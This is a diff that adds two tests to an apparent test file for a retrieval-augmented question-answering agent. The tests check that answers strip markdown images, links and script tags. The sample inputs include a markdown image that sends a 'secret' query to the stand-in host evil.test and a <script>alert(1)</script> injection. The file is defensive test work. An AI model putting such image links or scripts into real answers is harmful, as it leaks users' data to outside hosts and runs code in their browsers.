@@ -68,6 +68,16 @@ def test_a_citation_that_does_not_resolve_is_removed():
     assert ask("Yes [1], and [9].").text == "Yes [1], and ."
 
 
+def test_check_23_an_answer_shows_no_picture_and_runs_nothing():
+    answer = ask("Yes [1]. ![x](http://evil.test/?q=secret) <script>alert(1)</script> [more](http://evil.test/) [2]")
+    assert answer.text == "Yes [1]. !\\[x] &lt;script>alert(1)&lt;/script> [more] [2]"
+    assert not answer.is_uncertain
+
+
+def test_a_picture_whose_name_is_a_number_is_no_citation():
+    assert_unknown(ask("Yes ![1](http://evil.test/?q=secret)."))
+
+
 def test_a_first_question_is_not_rewritten():
     llm, retriever = FakeLLM(), FakeRetriever(FOUND)
     answer = RAGAgent(retriever, llm).answer("How?", [])
